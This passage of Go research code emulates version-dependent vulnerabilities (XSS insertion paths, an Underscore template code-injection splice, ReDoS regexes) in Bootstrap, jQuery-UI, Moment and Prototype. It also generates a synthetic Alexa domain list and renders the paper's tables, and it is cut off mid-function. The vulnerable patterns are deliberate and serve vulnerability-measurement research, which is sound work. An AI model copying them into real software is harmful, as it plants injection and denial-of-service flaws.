type Bootstrap struct{ env *Env }

// Bootstrap returns the Bootstrap emulator.
func (e *Env) Bootstrap() *Bootstrap { return &Bootstrap{env: e} }

// TooltipTemplate models the tooltip/popover template option
// (CVE-2019-8331). The HTML sanitizer landed in 3.4.1 on the 3.x branch and
// 4.3.1 on the 4.x branch; earlier versions insert the template unfiltered.
func (b *Bootstrap) TooltipTemplate(template string) {
	sanitized := b.env.in("3.4.1", "4.0.0") || b.env.in("4.3.1", "")
	if sanitized {
		b.env.insertHTML(sanitizeHTML(template))
		return
	}
	b.env.insertHTML(template)
}

// TooltipContainer models the data-container option (CVE-2018-14042):
// introduced with 2.3.0, escaped from 4.1.2.
func (b *Bootstrap) TooltipContainer(value string) {
	if b.env.in("2.3.0", "4.1.2") {
		b.env.insertHTML(value)
	}
}

// CollapseParent models the collapse data-parent option (CVE-2018-14040):
// introduced with 2.3.0, escaped from 4.1.2.
func (b *Bootstrap) CollapseParent(value string) {
	if b.env.in("2.3.0", "4.1.2") {
		b.env.insertHTML(value)
	}
}

// ScrollSpyTarget models the scrollspy data-target option
// (CVE-2018-14041), escaped from 4.1.2.
func (b *Bootstrap) ScrollSpyTarget(value string) {
	if b.env.in("", "4.1.2") {
		b.env.insertHTML(value)
	}
}

// AffixTarget models the affix data-target option (CVE-2018-20676): the
// vulnerable handling shipped with 3.2.0 and was escaped in 3.4.0.
func (b *Bootstrap) AffixTarget(value string) {
	if b.env.in("3.2.0", "3.4.0") {
		b.env.insertHTML(value)
	}
}

// TooltipViewport models the tooltip viewport option (CVE-2018-20677):
// introduced with 3.2.0, escaped in 3.4.0.
func (b *Bootstrap) TooltipViewport(value string) {
	if b.env.in("3.2.0", "3.4.0") {
		b.env.insertHTML(value)
	}
}

// DataTarget models the generic data-target attribute handling
// (CVE-2016-10735): the unescaped selector path shipped with 2.1.0 and was
// fixed in 3.4.0.
func (b *Bootstrap) DataTarget(value string) {
	if b.env.in("2.1.0", "3.4.0") {
		b.env.insertHTML(value)
	}
}

// JQueryUI emulates the jQuery-UI widget options of Table 2.
type JQueryUI struct{ env *Env }

// JQueryUI returns the jQuery-UI emulator.
func (e *Env) JQueryUI() *JQueryUI { return &JQueryUI{env: e} }

// DialogTitle models the dialog title option (CVE-2010-5312): inserted as
// HTML until the 1.10.0 rewrite escaped it.
func (u *JQueryUI) DialogTitle(title string) {
	if u.env.in("", "1.10.0") {
		u.env.insertHTML(title)
		return
	}
	u.env.insertHTML(escapeText(title))
}

// TooltipContent models the tooltip content handling (CVE-2012-6662),
// also fixed by the 1.10.0 rewrite.
func (u *JQueryUI) TooltipContent(content string) {
	if u.env.in("", "1.10.0") {
		u.env.insertHTML(content)
	}
}

// DialogCloseText models the dialog closeText option (CVE-2016-7103). The
// 1.10.0 rewrite that fixed the title options routed closeText through
// .html() — introducing this bug — and the paper's experiments found it
// alive through 1.12.x, gone only in 1.13.0.
func (u *JQueryUI) DialogCloseText(text string) {
	if u.env.in("1.10.0", "1.13.0") {
		u.env.insertHTML(text)
		return
	}
	u.env.insertHTML(escapeText(text))
}

// DatepickerAltField models the datepicker altField option
// (CVE-2021-41182), unescaped until 1.13.0.
func (u *JQueryUI) DatepickerAltField(value string) {
	if u.env.in("", "1.13.0") {
		u.env.insertHTML(value)
	}
}

// ButtonText models widget text options (CVE-2021-41183), unescaped until
// 1.13.0.
func (u *JQueryUI) ButtonText(value string) {
	if u.env.in("", "1.13.0") {
		u.env.insertHTML(value)
	}
}

// PositionOf models the .position util's "of" option (CVE-2021-41184),
// treated as a selector-or-HTML until 1.13.0.
func (u *JQueryUI) PositionOf(value string) {
	if u.env.in("", "1.13.0") {
		u.env.insertHTML(value)
	}
}

// Underscore emulates _.template (CVE-2021-23358).
type Underscore struct{ env *Env }

// Underscore returns the Underscore emulator.
func (e *Env) Underscore() *Underscore { return &Underscore{env: e} }

var identifierRE = regexp.MustCompile(`^[a-zA-Z_$][0-9a-zA-Z_$]*$`)

// Template models _.template(tpl, {variable: v}): the generated function
// source splices the variable name verbatim. The option appeared in 1.3.2;
// 1.12.1 added the identifier check. The splice genuinely happens here and
// the PoC inspects whether its payload escaped into the source.
func (u *Underscore) Template(tpl, variable string) string {
	source := "var __t,__p='';"
	switch {
	case variable == "" || !u.env.in("1.3.2", ""):
		// Option absent (or predates its introduction): sandboxed with().
		source += "with(obj||{}){ __p+='" + escapeJS(tpl) + "'; }"
	case u.env.in("1.3.2", "1.12.1"):
		// Raw splice: attacker-controlled code lands in the source.
		source += "var " + variable + ";__p+='" + escapeJS(tpl) + "';"
		if !identifierRE.MatchString(variable) {
			u.env.recordInjection(variable)
		}
	default:
		// Fixed: non-identifiers are rejected before code generation.
		if !identifierRE.MatchString(variable) {
			return ""
		}
		source += "var " + variable + ";__p+='" + escapeJS(tpl) + "';"
	}
	return source
}

// Moment emulates the Moment.js parsing paths with ReDoS histories.
type Moment struct{ env *Env }

// Moment returns the Moment.js emulator.
func (e *Env) Moment() *Moment { return &Moment{env: e} }

// ParseDuration models the duration/locale parsing of CVE-2016-4055. The
// paper's experiments found the catastrophic pattern present in
// [2.8.1, 2.15.2); outside that span a linear pattern is used. The blow-up
// itself is real: the naive engine's step counter explodes on the nested
// quantifier.
func (mo *Moment) ParseDuration(input string) bool {
	pattern := `(\d+ )*ms`
	if mo.env.in("2.8.1", "2.15.2") {
		pattern = `((\d+ ?)+)*ms` // nested quantifier: catastrophic
	}
	ok, steps := matchSteps(pattern, input, redosThreshold*2)
	mo.env.steps = steps
	return ok
}

// ParseRFC2822 models the RFC-2822 date parsing of CVE-2017-18214, fixed
// in 2.19.3.
func (mo *Moment) ParseRFC2822(input string) bool {
	pattern := `([A-Za-z]+, )?\d+ [A-Za-z]+ \d+`
	if mo.env.in("", "2.19.3") {
		pattern = `(([A-Za-z]+|,| )+)*\d\d\d\d` // overlapping alternation
	}
	ok, steps := matchSteps(pattern, input, redosThreshold*2)
	mo.env.steps = steps
	return ok
}

// Prototype emulates the Prototype.js paths of Table 2.
type Prototype struct{ env *Env }

// Prototype returns the Prototype emulator.
func (e *Env) Prototype() *Prototype { return &Prototype{env: e} }

// StripTags models String#stripTags (CVE-2020-27511). The vulnerable
// pattern has shipped unchanged in every release and no fixed version
// exists (the 2021 fix PR is unmerged), so the blow-up reproduces on all
// versions.
func (p *Prototype) StripTags(input string) string {
	// The real pattern's vulnerable core: a repeated attribute group whose
	// inner alternation ("[^"]*" vs the catch-all [^>]) overlaps with the
	// group's own separator — the ambiguity that makes backtracking
	// explode on an unterminated tag.
	pattern := `<\w+(( )+("[^"]*"|[^>])+)*>`
	ok, steps := matchSteps(pattern, input, redosThreshold*2)
	p.env.steps = steps
	if ok {
		return ""
	}
	return input
}

// AjaxRequestAuth models the pre-1.6.0.1 Ajax.Request authorization
// handling (CVE-2020-7993): the affected builds forwarded requests without
// the authorization guard.
func (p *Prototype) AjaxRequestAuth() {
	if p.env.in("", "1.6.0.1") {
		p.env.leaked = true
	}
}

// sanitizeHTML is the allowlist sanitizer Bootstrap 3.4.1/4.3.1 introduced:
// script elements and event-handler attributes are removed.
var eventAttr = regexp.MustCompile(`(?i)\son\w+\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)`)

func sanitizeHTML(html string) string {
	html = stripScripts(html)
	return eventAttr.ReplaceAllString(html, "")
}

// escapeText models .text()-style insertion: markup becomes inert text.
func escapeText(s string) string {
	s = strings.ReplaceAll(s, "<", "&lt;")
	return strings.ReplaceAll(s, ">", "&gt;")
}

func escapeJS(s string) string {
	return strings.ReplaceAll(s, "'", "\\'")
}
