// Package alexa generates deterministic ranked domain lists standing in for
// the Alexa Top-1M snapshot the paper crawled (Mar 2018).
//
// The real list is unavailable offline; what the study needs from it is (a) a
// stable ranked identifier per website, (b) a popularity ordering so that
// rank-band analyses (Top 1K / 10K / 1M, Figure 8) are meaningful, and (c) a
// plausible country mix for the Flash case study (Section 8). The generator
// provides all three deterministically from a seed.
package alexa

import (
	"fmt"
	"math/rand"
)

// Domain is one ranked entry of the list.
type Domain struct {
	// Rank is the 1-based Alexa rank.
	Rank int
	// Name is the registered domain name, e.g. "stream-media4821.cn".
	Name string
	// TLD is the public suffix of Name without the leading dot.
	TLD string
	// Country is the ISO-like country code the site is operated from. It
	// correlates with, but is not determined by, the TLD (a .com can be
	// operated from anywhere), mirroring the paper's manual WHOIS analysis.
	Country string
}

// List is a ranked domain list.
type List struct {
	Domains []Domain
}

// tldWeights approximates the TLD mix of popular-site lists.
var tldWeights = []struct {
	tld    string
	weight int
}{
	{"com", 480}, {"org", 70}, {"net", 55}, {"ru", 50}, {"de", 40},
	{"cn", 40}, {"jp", 30}, {"br", 25}, {"uk", 25}, {"ir", 20},
	{"fr", 20}, {"it", 15}, {"in", 15}, {"pl", 12}, {"es", 12},
	{"io", 10}, {"tw", 8}, {"hu", 6}, {"pt", 6}, {"kr", 6},
}

// countryForTLD maps country-code TLDs to their country; generic TLDs draw
// from a global mix.
var countryForTLD = map[string]string{
	"ru": "RU", "de": "DE", "cn": "CN", "jp": "JP", "br": "BR",
	"uk": "GB", "ir": "IR", "fr": "FR", "it": "IT", "in": "IN",
	"pl": "PL", "es": "ES", "tw": "TW", "hu": "HU", "pt": "PT",
	"kr": "KR",
}

// genericCountries is the operator-country mix for generic TLDs.
var genericCountries = []struct {
	country string
	weight  int
}{
	{"US", 45}, {"CN", 12}, {"RU", 7}, {"DE", 6}, {"JP", 5},
	{"GB", 5}, {"IN", 4}, {"BR", 4}, {"FR", 3}, {"IR", 2},
	{"ES", 2}, {"TW", 2}, {"HU", 1}, {"PT", 1}, {"KR", 1},
}

// nameStems give the generated names some lexical variety; purely cosmetic
// but useful when eyeballing crawler logs.
var nameStems = []string{
	"news", "shop", "blog", "media", "portal", "forum", "game", "video",
	"cloud", "mail", "photo", "travel", "music", "sport", "tech", "store",
	"wiki", "data", "stream", "social",
}

// Generate returns a ranked list of n domains, deterministic in seed.
func Generate(n int, seed int64) List {
	r := rand.New(rand.NewSource(seed))
	tldTotal := 0
	for _, tw := range tldWeights {
		tldTotal += tw.weight
	}
	gcTotal := 0
	for _, gc := range genericCountries {
		gcTotal += gc.weight
	}
	domains := make([]Domain, n)
	for i := range domains {
		tld := pickTLD(r, tldTotal)
		country, ok := countryForTLD[tld]
		if !ok {
			country = pickGenericCountry(r, gcTotal)
		}
		stem := nameStems[r.Intn(len(nameStems))]
		domains[i] = Domain{
			Rank:    i + 1,
			Name:    fmt.Sprintf("%s%d.%s", stem, i+1, tld),
			TLD:     tld,
			Country: country,
		}
	}
	return List{Domains: domains}
}

func pickTLD(r *rand.Rand, total int) string {
	x := r.Intn(total)
	for _, tw := range tldWeights {
		if x < tw.weight {
			return tw.tld
		}
		x -= tw.weight
	}
	return "com"
}

func pickGenericCountry(r *rand.Rand, total int) string {
	x := r.Intn(total)
	for _, gc := range genericCountries {
		if x < gc.weight {
			return gc.country
		}
		x -= gc.weight
	}
	return "US"
}

// Len returns the number of domains in the list.
func (l List) Len() int { return len(l.Domains) }

// TopK returns the prefix of the list with rank ≤ k.
func (l List) TopK(k int) []Domain {
	if k > len(l.Domains) {
		k = len(l.Domains)
	}
	return l.Domains[:k]
}

// ByName returns a lookup map from domain name to its entry.
func (l List) ByName() map[string]Domain {
	m := make(map[string]Domain, len(l.Domains))
	for _, d := range l.Domains {
		m[d.Name] = d
	}
	return m
}
