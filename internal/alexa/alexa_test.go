package alexa

import (
	"reflect"
	"strings"
	"testing"
)

func TestGenerateDeterministic(t *testing.T) {
	a := Generate(500, 42)
	b := Generate(500, 42)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same seed must produce identical lists")
	}
	c := Generate(500, 43)
	if reflect.DeepEqual(a, c) {
		t.Fatal("different seeds should differ")
	}
}

func TestGenerateRanksAndNames(t *testing.T) {
	l := Generate(100, 1)
	if l.Len() != 100 {
		t.Fatalf("Len = %d", l.Len())
	}
	seen := map[string]bool{}
	for i, d := range l.Domains {
		if d.Rank != i+1 {
			t.Errorf("rank[%d] = %d", i, d.Rank)
		}
		if seen[d.Name] {
			t.Errorf("duplicate name %q", d.Name)
		}
		seen[d.Name] = true
		if !strings.HasSuffix(d.Name, "."+d.TLD) {
			t.Errorf("name %q does not end in TLD %q", d.Name, d.TLD)
		}
		if d.Country == "" {
			t.Errorf("domain %q has empty country", d.Name)
		}
	}
}

func TestCountryConsistentWithCCTLD(t *testing.T) {
	l := Generate(5000, 7)
	for _, d := range l.Domains {
		if want, ok := countryForTLD[d.TLD]; ok && d.Country != want {
			t.Errorf("%s: country %s, want %s", d.Name, d.Country, want)
		}
	}
}

func TestTLDMixIsPlausible(t *testing.T) {
	l := Generate(20000, 11)
	counts := map[string]int{}
	for _, d := range l.Domains {
		counts[d.TLD]++
	}
	comFrac := float64(counts["com"]) / float64(l.Len())
	if comFrac < 0.40 || comFrac > 0.60 {
		t.Errorf(".com fraction = %.2f, want ~0.50", comFrac)
	}
	if counts["cn"] == 0 || counts["ru"] == 0 {
		t.Error("expected some .cn and .ru domains")
	}
}

func TestTopK(t *testing.T) {
	l := Generate(100, 3)
	top := l.TopK(10)
	if len(top) != 10 || top[9].Rank != 10 {
		t.Errorf("TopK(10) wrong: len %d", len(top))
	}
	all := l.TopK(1000)
	if len(all) != 100 {
		t.Errorf("TopK beyond size should clamp, got %d", len(all))
	}
}

func TestByName(t *testing.T) {
	l := Generate(50, 9)
	m := l.ByName()
	if len(m) != 50 {
		t.Fatalf("ByName size = %d", len(m))
	}
	for _, d := range l.Domains {
		if m[d.Name].Rank != d.Rank {
			t.Errorf("lookup mismatch for %s", d.Name)
		}
	}
}
