// Package report renders the study's tables and figures as aligned text
// tables and CSV series — one renderer per table/figure of the paper, fed
// by the analysis collectors and the poclab experiment.
package report

import (
	"fmt"
	"io"
	"strings"
)

// Table writes an aligned text table with a title.
func Table(w io.Writer, title string, headers []string, rows [][]string) {
	fmt.Fprintf(w, "\n== %s ==\n", title)
	widths := make([]int, len(headers))
	for i, h := range headers {
		widths[i] = len(h)
	}
	for _, row := range rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	writeRow := func(cells []string) {
		parts := make([]string, len(widths))
		for i := range widths {
			cell := ""
			if i < len(cells) {
				cell = cells[i]
			}
			parts[i] = pad(cell, widths[i])
		}
		fmt.Fprintln(w, strings.TrimRight(strings.Join(parts, "  "), " "))
	}
	writeRow(headers)
	sep := make([]string, len(headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range rows {
		writeRow(row)
	}
}

func pad(s string, n int) string {
	if len(s) >= n {
		return s
	}
	return s + strings.Repeat(" ", n-len(s))
}

// CSV writes a minimal CSV (fields are known not to contain commas or
// quotes — dates, numbers, identifiers).
func CSV(w io.Writer, headers []string, rows [][]string) {
	fmt.Fprintln(w, strings.Join(headers, ","))
	for _, row := range rows {
		fmt.Fprintln(w, strings.Join(row, ","))
	}
}

// pct renders a fraction as a percentage cell.
func pct(f float64) string { return fmt.Sprintf("%.1f%%", f*100) }

// num renders an integer cell.
func num(n int) string { return fmt.Sprintf("%d", n) }

// f1 renders a float with one decimal.
func f1(f float64) string { return fmt.Sprintf("%.1f", f) }

// f2 renders a float with two decimals.
func f2(f float64) string { return fmt.Sprintf("%.2f", f) }
