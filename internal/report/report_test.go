package report

import (
	"strings"
	"testing"

	"clientres/internal/analysis"
	"clientres/internal/poclab"
	"clientres/internal/webgen"
)

// buildSmall runs a small pipeline for rendering tests.
func buildSmall(t *testing.T) (*webgen.Ecosystem, *analysis.Collection, *analysis.LibraryStats,
	*analysis.VulnPrevalence, *analysis.UpdateDelay, *analysis.SRI, *analysis.Flash,
	*analysis.WordPress, *analysis.Discontinued) {
	t.Helper()
	eco := webgen.New(webgen.Config{Domains: 600, Weeks: 60, Seed: 4})
	weeks := eco.Cfg.Weeks
	coll := analysis.NewCollection(weeks)
	libs := analysis.NewLibraryStats(weeks)
	vuln := analysis.NewVulnPrevalence(weeks)
	delay := analysis.NewUpdateDelay(weeks)
	sri := analysis.NewSRI(weeks)
	flash := analysis.NewFlash(weeks, eco.Cfg.Domains)
	wp := analysis.NewWordPress(weeks)
	disc := analysis.NewDiscontinued(weeks)
	analysis.TruthSource{Eco: eco}.Run(analysis.NewRunner(coll, libs, vuln, delay, sri, flash, wp, disc))
	return eco, coll, libs, vuln, delay, sri, flash, wp, disc
}

func TestTableRendering(t *testing.T) {
	var b strings.Builder
	Table(&b, "demo", []string{"a", "bb"}, [][]string{{"1", "2"}, {"333", "4"}})
	out := b.String()
	if !strings.Contains(out, "== demo ==") || !strings.Contains(out, "333") {
		t.Errorf("table output:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 5 { // title, header, separator, 2 rows
		t.Errorf("line count = %d:\n%s", len(lines), out)
	}
}

func TestCSVRendering(t *testing.T) {
	var b strings.Builder
	CSV(&b, []string{"x", "y"}, [][]string{{"1", "2"}})
	if b.String() != "x,y\n1,2\n" {
		t.Errorf("csv = %q", b.String())
	}
}

func TestAllRenderersProduceOutput(t *testing.T) {
	eco, coll, libs, vuln, delay, sri, flash, wp, disc := buildSmall(t)
	weeks := eco.Cfg.Weeks
	findings, err := poclab.RunAll()
	if err != nil {
		t.Fatal(err)
	}

	var b strings.Builder
	Table1(&b, libs.Table1())
	Table2(&b, findings, vuln)
	Table3(&b)
	Table4(&b, wp.Table4())
	Table5(&b, libs)
	Table6(&b, sri)
	Figure2a(&b, coll)
	Figure2b(&b, coll)
	Figure3(&b, libs, weeks)
	Figure4(&b, findings, "jquery", "Figure 4: jQuery disclosed vs true vulnerable versions")
	Figure5(&b, vuln, weeks, []string{"CVE-2020-7656", "CVE-2014-6071", "CVE-2020-11022"},
		"Figure 5: affected sites, jQuery advisories")
	Figure6(&b, libs, weeks)
	Figure7(&b, libs, weeks)
	Figure8(&b, flash, weeks)
	Figure9(&b, wp, weeks)
	Figure10(&b, sri, weeks)
	Figure11(&b, flash, weeks)
	Figure12(&b, vuln)
	Figure13(&b, findings)
	Figure14(&b, vuln, weeks)
	Figure15(&b, libs, weeks)
	Headlines(&b, vuln, delay, sri, flash, disc)

	out := b.String()
	for _, want := range []string{
		"Table 1:", "Table 2:", "Table 3:", "Table 4:", "Table 5:", "Table 6",
		"Figure 2a", "Figure 2b", "Figure 3a", "Figure 3b", "Figure 4",
		"Figure 5", "Figure 6", "Figure 7a", "Figure 7b", "Figure 8",
		"Figure 9", "Figure 10", "Figure 11", "Figure 12", "Figure 13",
		"Figure 14", "Figure 15", "Headline findings",
		"jQuery", "CVE-2020-7656", "360 Browser", "understated",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q", want)
		}
	}
	if len(out) < 5000 {
		t.Errorf("combined report suspiciously small: %d bytes", len(out))
	}
}

func TestTable2MarksAccuracy(t *testing.T) {
	findings, err := poclab.RunAll()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	Table2(&b, findings, nil)
	out := b.String()
	for _, want := range []string{"understated", "overstated", "accurate"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table 2 missing accuracy class %q", want)
		}
	}
}

func TestFigure4ShowsUnderstatedVersions(t *testing.T) {
	findings, err := poclab.RunAll()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	Figure4(&b, findings, "jquery", "Figure 4")
	out := b.String()
	if !strings.Contains(out, "CVE-2020-7656") {
		t.Error("Figure 4 missing CVE-2020-7656")
	}
	// The headline understatement: versions up to 3.5.1 are vulnerable.
	if !strings.Contains(out, "3.5.1") {
		t.Errorf("Figure 4 should surface understated versions up to 3.5.1:\n%s", out)
	}
}
