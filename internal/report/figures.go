package report

import (
	"fmt"
	"io"

	"clientres/internal/analysis"
	"clientres/internal/poclab"
	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

// sampleStep is the default series down-sampling for text output
// (13 weeks ≈ quarterly).
const sampleStep = 13

// seriesTable prints a down-sampled weekly series table.
func seriesTable(w io.Writer, title string, weeks int, cols []string, get func(week int) []string) {
	headers := append([]string{"date"}, cols...)
	var rows [][]string
	for wk := 0; wk < weeks; wk += sampleStep {
		row := append([]string{analysis.WeekDate(wk).Format("2006-01-02")}, get(wk)...)
		rows = append(rows, row)
	}
	Table(w, title, headers, rows)
}

// Figure2a renders the weekly collected-site counts.
func Figure2a(w io.Writer, coll *analysis.Collection) {
	attempted := coll.AttemptedSeries()
	collected := coll.CollectedSeries()
	seriesTable(w, "Figure 2a: collected websites per week", len(collected),
		[]string{"attempted", "collected"}, func(wk int) []string {
			return []string{num(attempted[wk]), num(collected[wk])}
		})
	fmt.Fprintf(w, "mean collected per week: %.0f\n", coll.MeanCollected())
}

// Figure2b renders the top-8 resource usage shares.
func Figure2b(w io.Writer, coll *analysis.Collection) {
	shares := coll.ResourceShares()
	cols := make([]string, len(shares))
	for i, s := range shares {
		cols[i] = s.Resource
	}
	seriesTable(w, "Figure 2b: top-8 client-side resource usage (% of collected)",
		len(shares[0].Weekly), cols, func(wk int) []string {
			row := make([]string, len(shares))
			for i, s := range shares {
				row[i] = pct(s.Weekly[wk])
			}
			return row
		})
	for _, s := range shares {
		fmt.Fprintf(w, "mean %-14s %s\n", s.Resource+":", pct(s.Mean))
	}
}

// Figure3 renders library usage trends (top 5 and 6–15).
func Figure3(w io.Writer, libs *analysis.LibraryStats, weeks int) {
	top5 := []string{"jquery", "jquery-migrate", "bootstrap", "jquery-ui", "modernizr"}
	rest := []string{"js-cookie", "underscore", "isotope", "popper", "moment",
		"requirejs", "swfobject", "prototype", "jquery-cookie", "polyfill"}
	render := func(title string, slugs []string) {
		series := make(map[string][]float64, len(slugs))
		for _, s := range slugs {
			series[s] = libs.UsageSeries(s)
		}
		seriesTable(w, title, weeks, slugs, func(wk int) []string {
			row := make([]string, len(slugs))
			for i, s := range slugs {
				row[i] = pct(series[s][wk])
			}
			return row
		})
	}
	render("Figure 3a: JavaScript library usage, top 5", top5)
	render("Figure 3b: JavaScript library usage, top 6-15", rest)
}

// Figure4 renders the disclosed-vs-true version intervals for one library's
// advisories (jQuery for Figure 4, the others for Figure 13).
func Figure4(w io.Writer, findings []poclab.Finding, lib string, title string) {
	var rows [][]string
	for _, f := range findings {
		if f.Advisory.Lib != lib || f.Advisory.TrueRange.IsZero() {
			continue
		}
		rows = append(rows, []string{
			f.Advisory.ID,
			f.Advisory.CVERange.String(),
			f.TVV.String(),
			versionList(f.Understated()),
			versionList(f.Overstated()),
		})
	}
	Table(w, title,
		[]string{"Advisory", "Disclosed range", "Computed TVV", "Understated versions", "Overstated versions"},
		rows)
}

func versionList(vs []semver.Version) string {
	if len(vs) == 0 {
		return "-"
	}
	if len(vs) <= 4 {
		s := ""
		for i, v := range vs {
			if i > 0 {
				s += " "
			}
			s += v.String()
		}
		return s
	}
	return fmt.Sprintf("%s .. %s (%d versions)", vs[0], vs[len(vs)-1], len(vs))
}

// Figure5 renders affected-site counts over time, CVE vs TVV ranges, for
// the jQuery advisories the paper plots (Figure 5) — Figure14 does the same
// for the other libraries.
func Figure5(w io.Writer, vuln *analysis.VulnPrevalence, weeks int, ids []string, title string) {
	cols := make([]string, 0, len(ids)*2)
	type pair struct{ cve, tvv []int }
	series := map[string]pair{}
	for _, id := range ids {
		c, t := vuln.AdvisorySeries(id)
		series[id] = pair{c, t}
		cols = append(cols, id+" CVE", id+" TVV")
	}
	seriesTable(w, title, weeks, cols, func(wk int) []string {
		var row []string
		for _, id := range ids {
			p := series[id]
			row = append(row, num(p.cve[wk]), num(p.tvv[wk]))
		}
		return row
	})
}

// Figure6 renders the usage trend of the top affected versions of a CVE
// (Figure 6 uses jQuery CVE-2020-7656's top versions).
func Figure6(w io.Writer, libs *analysis.LibraryStats, weeks int) {
	versions := []string{"1.8.3", "1.7.2", "1.7.1", "1.8.2", "1.9.0"}
	series := map[string][]int{}
	for _, v := range versions {
		series[v] = libs.VersionSeries("jquery", v)
	}
	seriesTable(w, "Figure 6: usage of versions around CVE-2020-7656 (affected < 1.9.0, patched 1.9.0)",
		weeks, versions, func(wk int) []string {
			row := make([]string, len(versions))
			for i, v := range versions {
				row[i] = num(series[v][wk])
			}
			return row
		})
}

// Figure7 renders jQuery 1.12.4 vs the patched 3.5+ line, overall (7a) and
// WordPress-associated (7b).
func Figure7(w io.Writer, libs *analysis.LibraryStats, weeks int) {
	versions := []string{"1.12.4", "3.5.0", "3.5.1", "3.6.0", "1.11.3"}
	all := map[string][]int{}
	wp := map[string][]int{}
	for _, v := range versions {
		all[v] = libs.VersionSeries("jquery", v)
		wp[v] = libs.VersionSeriesWordPress("jquery", v)
	}
	seriesTable(w, "Figure 7a: jQuery 1.12.4 vs patched-version usage", weeks, versions,
		func(wk int) []string {
			row := make([]string, len(versions))
			for i, v := range versions {
				row[i] = num(all[v][wk])
			}
			return row
		})
	wpVers := []string{"1.12.4", "3.5.1", "3.6.0"}
	seriesTable(w, "Figure 7b: WordPress-associated jQuery versions", weeks, wpVers,
		func(wk int) []string {
			row := make([]string, len(wpVers))
			for i, v := range wpVers {
				row[i] = num(wp[v][wk])
			}
			return row
		})
}

// Figure8 renders the Flash usage decline across rank bands.
func Figure8(w io.Writer, flash *analysis.Flash, weeks int) {
	all, top10k, top1k := flash.UsageSeries()
	seriesTable(w, "Figure 8: Adobe Flash usage (all domains, top-1% band, top-0.1% band)",
		weeks, []string{"all", "top-1%", "top-0.1%"}, func(wk int) []string {
			return []string{num(all[wk]), num(top10k[wk]), num(top1k[wk])}
		})
	fmt.Fprintf(w, "mean Flash sites after EOL (Jan 2021): %.0f\n", flash.MeanPostEOL())

	// The Section 8 case study: top-band post-EOL holdouts.
	holdouts := flash.TopBandHoldouts()
	if len(holdouts) > 0 {
		var rows [][]string
		for i, h := range holdouts {
			if i >= 15 {
				break
			}
			vis := "invisible (off-page leftover)"
			if h.Visible {
				vis = "visible"
			}
			rows = append(rows, []string{h.Domain, num(h.Rank), h.Country, vis})
		}
		Table(w, "Section 8 case study: top-band websites still embedding Flash after EOL",
			[]string{"Website", "Rank", "Country", "Flash content"}, rows)
		v, inv := flash.HoldoutVisibility()
		fmt.Fprintf(w, "visible vs invisible holdouts: %d vs %d (paper: 6 vs 7 of 13)\n", v, inv)
	}
}

// Figure9 renders WordPress usage.
func Figure9(w io.Writer, wp *analysis.WordPress, weeks int) {
	all, wps := wp.UsageSeries()
	seriesTable(w, "Figure 9: WordPress usage", weeks, []string{"all sites", "WordPress"},
		func(wk int) []string { return []string{num(all[wk]), num(wps[wk])} })
	fmt.Fprintf(w, "mean WordPress share: %s\n", pct(wp.MeanShare()))
}

// Figure10 renders the Subresource Integrity series.
func Figure10(w io.Writer, sri *analysis.SRI, weeks int) {
	missing, covered := sri.SRISeries()
	seriesTable(w, "Figure 10: sites with >=1 external library lacking integrity vs fully covered",
		weeks, []string{"no integrity", "integrity"}, func(wk int) []string {
			return []string{num(missing[wk]), num(covered[wk])}
		})
	fmt.Fprintf(w, "mean share with >=1 uncovered external library: %s\n", pct(sri.MissingSRIShare()))
	fmt.Fprintf(w, "crossorigin among integrity users: %v\n", sri.CrossoriginShares())
	withSnippet := vulndb.LibrariesWithSRISnippet()
	fmt.Fprintf(w, "official sites providing an integrity snippet: %d of %d top libraries (",
		len(withSnippet), len(vulndb.Libraries()))
	for i, l := range withSnippet {
		if i > 0 {
			fmt.Fprint(w, ", ")
		}
		fmt.Fprint(w, l.Name)
	}
	fmt.Fprintln(w, ")")
}

// Figure11 renders the AllowScriptAccess series.
func Figure11(w io.Writer, flash *analysis.Flash, weeks int) {
	all, param, always := flash.ScriptAccessSeries()
	seriesTable(w, "Figure 11: AllowScriptAccess parameter and insecure 'always' option",
		weeks, []string{"flash sites", "param used", "always"}, func(wk int) []string {
			return []string{num(all[wk]), num(param[wk]), num(always[wk])}
		})
	fmt.Fprintf(w, "mean insecure ('always') share of Flash sites: %s\n", pct(flash.MeanInsecureShare()))
}

// Figure12 renders the vulnerability-count CDF under both rulesets.
func Figure12(w io.Writer, vuln *analysis.VulnPrevalence) {
	cve := vuln.VulnCDF(false)
	tvv := vuln.VulnCDF(true)
	tvvAt := map[int]float64{}
	for _, p := range tvv {
		tvvAt[p.Count] = p.CDF
	}
	var rows [][]string
	last := 0.0
	for _, p := range cve {
		t, ok := tvvAt[p.Count]
		if !ok {
			t = last
		}
		last = t
		rows = append(rows, []string{num(p.Count), f2(p.CDF), f2(t)})
	}
	Table(w, "Figure 12: CDF of vulnerabilities per page (CVE vs TVV ranges)",
		[]string{"#vulns", "CDF (CVE)", "CDF (TVV)"}, rows)
	fmt.Fprintf(w, "mean vulnerabilities per page: CVE %.2f, TVV %.2f\n",
		vuln.MeanVulnsPerSite(false), vuln.MeanVulnsPerSite(true))
}

// Figure13 renders the CVV/TVV interval comparison for the non-jQuery
// libraries.
func Figure13(w io.Writer, findings []poclab.Finding) {
	for _, lib := range []string{"moment", "jquery-migrate", "jquery-ui", "bootstrap", "prototype"} {
		Figure4(w, findings, lib, "Figure 13: disclosed vs true vulnerable versions — "+lib)
	}
}

// Figure14 is Figure 5 for the non-jQuery advisories with incorrect CVEs.
func Figure14(w io.Writer, vuln *analysis.VulnPrevalence, weeks int) {
	Figure5(w, vuln, weeks, []string{
		"SNYK-JQMIGRATE-2013", "CVE-2016-10735", "CVE-2018-20676",
		"CVE-2016-7103", "CVE-2016-4055", "CVE-2020-27511",
	}, "Figure 14: affected sites over time, CVE vs TVV ranges (non-jQuery advisories)")
}

// Figure15 renders the top-5 affected version trends for Bootstrap,
// Prototype, and jQuery-UI.
func Figure15(w io.Writer, libs *analysis.LibraryStats, weeks int) {
